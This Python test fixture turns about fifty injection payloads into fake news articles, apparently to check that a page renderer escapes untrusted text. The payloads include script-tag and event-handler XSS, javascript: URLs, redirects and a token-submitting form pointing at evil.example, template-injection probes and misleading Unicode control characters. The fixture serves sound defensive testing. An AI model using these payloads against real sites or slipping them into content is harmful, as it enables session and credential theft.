"""Fifty articles that would run a script, leave their place or mislead, if a page let them."""

_ALERT = "document.title='TAKEN'"
_MARKUP = (
    f"<script>{_ALERT}</script>",
    f"</p></div></main><script>{_ALERT}</script>",
    f"<img src=x onerror={_ALERT}>",
    f"<svg onload={_ALERT}>",
    f"<svg><script>{_ALERT}</script></svg>",
    f"<body onload={_ALERT}>",
    f"<iframe srcdoc='<script>parent.{_ALERT}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_ALERT}></iframe>",
    f"<a href=javascript:{_ALERT}>read on</a>",
    f"<a href='data:text/html,<script>{_ALERT}</script>'>read on</a>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<style>body{display:none}</style>",
    "<p style=position:fixed;inset:0>over all</p>",
    "<form action=http://evil.example/><input name=token></form>",
    "<object data=http://evil.example/a.swf></object>",
    "<embed src=http://evil.example/a.swf>",
    f"<video><source onerror={_ALERT}></video>",
    f"<details open ontoggle={_ALERT}>more</details>",
    f"<input autofocus onfocus={_ALERT}>",
    f"<math><mtext></p><img src=x onerror={_ALERT}>",
    f"<template><script>{_ALERT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_ALERT}>'></noscript>",
    f"<!--><img src=x onerror={_ALERT}>-->",
    f"<![CDATA[<script>{_ALERT}</script>]]>",
    f"</title><script>{_ALERT}</script>",
    f"</textarea><script>{_ALERT}</script>",
    "<plaintext>",
    "<xmp>",
    "<mark id=quote>not the quote</mark>",
)
_QUOTES = (
    f"\" onmouseover=\"{_ALERT}\" x=\"",
    f"' onmouseover='{_ALERT}' x='",
    f"\"><script>{_ALERT}</script>",
    f"'><script>{_ALERT}</script>",
    f"` onmouseover=`{_ALERT}`",
    f"\" autofocus onfocus=\"{_ALERT}",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ self._TemplateReference__context }}",
    "${7*7} #{7*7} <%= 7*7 %>",
)
_ENTITIES = (
    f"&lt;script&gt;{_ALERT}&lt;/script&gt;",
    f"&#60;script&#62;{_ALERT}&#60;/script&#62;",
    f"&amp;lt;script&amp;gt;{_ALERT}&amp;lt;/script&amp;gt;",
    f"\\u003cscript\\u003e{_ALERT}\\u003c/script\\u003e",
    f"%3Cscript%3E{_ALERT}%3C/script%3E",
    f"＜script＞{_ALERT}＜/script＞",
)
_CHARACTERS = (
    "They agreed \u202eton did\u202c to meet.",
    "They \u2066met\u2069 and \u2067parted\u2069.",
    "The\u200bword\ufeff that hides\u00ad.",
)
PAYLOADS = (*_MARKUP, *_QUOTES, *_TEMPLATES, *_ENTITIES, *_CHARACTERS)
TAKEN = "TAKEN"
"""The title of a page on which a script ran."""


def articles() -> list[dict[str, str]]:
    """Each payload as an article that has it in its headline, text, outlet, byline and address."""
    return [
        {
            "id": f"hostile-{number}",
            "title": f"Talks {number} {payload}",
            "text": f"Envoy Hostile {number} met the council.\n\nHe said {payload} and left.\n\n"
            f"{payload}",
            "source": f"Wire {payload}"[:120],
            "url": f"https://hostile.example/{number}?{payload}".replace(" ", "+"),
            "byline": f"Jane {payload}"[:120],
            "published_at": "2024-03-05",
        }
        for number, payload in enumerate(PAYLOADS)
    ]
